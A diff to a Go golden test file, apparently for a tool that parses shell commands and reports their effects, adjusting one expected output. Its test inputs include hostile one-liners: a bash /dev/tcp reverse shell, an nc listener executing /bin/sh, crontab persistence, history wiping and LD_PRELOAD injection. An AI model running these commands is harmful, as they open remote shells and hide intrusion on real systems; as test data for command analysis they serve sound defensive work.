@@ -41,7 +41,7 @@ func TestGolden(t *testing.T) {
 		{"(crontab -l; echo '* * * * * /tmp/x') | crontab -", "crontab: schedules * * * * * /tmp/x"},
 		{"scp -P 2222 root@192.0.2.1:/tmp/k.tgz .", "scp: fetches 192.0.2.1:/tmp/k.tgz to=./k.tgz port=2222, writes ./k.tgz create, connects 192.0.2.1:2222"},
 		{"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
-			"bash: connects 192.0.2.1:4444, sends 192.0.2.1:4444 from=- port=4444, fetches 192.0.2.1:4444 to=- port=4444"},
+			"bash: connects 192.0.2.1:4444, sends 192.0.2.1:4444 port=4444, fetches 192.0.2.1:4444 port=4444"},
 		{"nc -lvp 4444 -e /bin/sh", "nc: listens 4444 port=4444, runs /bin/sh"},
 		{"export HISTFILE=/dev/null; unset HISTSIZE", "export: sets HISTFILE =/dev/null | unset: sets HISTSIZE unset"},
 		{"LD_PRELOAD=/tmp/x.so ls", "ls: sets LD_PRELOAD =/tmp/x.so"},
